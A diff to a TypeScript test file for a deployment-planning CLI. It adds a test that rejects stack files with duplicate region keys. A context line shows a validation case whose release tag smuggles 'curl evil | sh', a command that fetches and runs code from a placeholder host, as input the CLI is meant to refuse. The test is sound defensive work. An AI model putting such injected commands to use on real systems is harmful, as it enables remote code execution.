@@ -116,6 +116,15 @@ for (const stack of ["staging", "prod"]) {
 }
 
 describe("plan with invalid config", () => {
+  it("refuses a stack file that lists a region twice", () => {
+    const file = variantStackFile("staging", () => undefined);
+    const text = readFileSync(file, "utf8").replace(/( +)us-lax:(.*)\n/, "$1us-lax:$2\n$1us-lax:$2\n");
+    writeFileSync(file, text);
+    const result = planCli(["--stack", "staging", "--config-file", file, "--json"]);
+    assert.equal(result.status, 1);
+    assert.match(result.stderr, /^config error: \(stack file\): Map keys must be unique/m);
+  });
+
   const cases: [string, (c: StackConfig) => void, string][] = [
     ["no releaseTag", (c) => delete c["lantern-fleet:releaseTag"], "releaseTag"],
     ["a tag with shell metacharacters", (c) => (c["lantern-fleet:releaseTag"] = "v0.0.74; curl evil | sh"), "releaseTag"],
